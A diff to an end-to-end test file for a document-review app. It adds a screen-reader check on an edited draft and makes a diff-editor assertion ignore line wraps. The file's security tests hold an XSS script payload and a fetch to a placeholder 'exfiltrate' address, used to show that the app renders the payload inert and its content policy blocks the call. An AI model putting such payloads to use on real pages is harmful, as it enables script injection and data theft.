@@ -142,6 +142,8 @@ describe(`review from the keyboard (${process.env['COUNTERSIGN_E2E_DRIVER'] ?? '
       await page.keyboard.press('e')
       await page.keyboard.press('Control+End')
       await page.keyboard.type('\nP.S. Your refund reference is RF-1234.')
+      // A screen reader reads the draft through the editor's text area, which holds the lines around the cursor.
+      await expect(page.evaluate(() => (document.activeElement as HTMLTextAreaElement).value)).resolves.toContain('P.S. Your refund reference is RF-1234.')
       await page.keyboard.press('Escape')
       await page.waitForSelector('.edited')
       await page.screenshot({ path: join(screenshots, 'draft-edited.png') })
@@ -195,7 +197,8 @@ describe(`review from the keyboard (${process.env['COUNTERSIGN_E2E_DRIVER'] ?? '
       await expect(page.locator('.decision-needed').innerText()).resolves.toBe(`Decide ${hostile}`)
       await expect(page.locator('.workspace-name').innerText()).resolves.toContain('Hostile <b>bundle</b>')
       await expect(page.locator('.case-view img, .case-view script, .queue img, .app-bar b').count()).resolves.toBe(0)
-      await expect(page.locator('.diff-editor').innerText()).resolves.toContain('<script>window.__pwned=2</script>')
+      // Wherever Monaco wraps the line, it is the text itself.
+      await expect(page.locator('.diff-editor').innerText().then((text) => text.replaceAll('\n', ''))).resolves.toContain('<script>window.__pwned=2</script>')
       await expect(page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).resolves.toBeUndefined()
       // The CSP lets nothing reach the network, and would refuse injected inline script.
       await expect(page.evaluate(() => fetch('http://203.0.113.7/exfiltrate').then(() => 'sent', () => 'blocked'))).resolves.toBe('blocked')
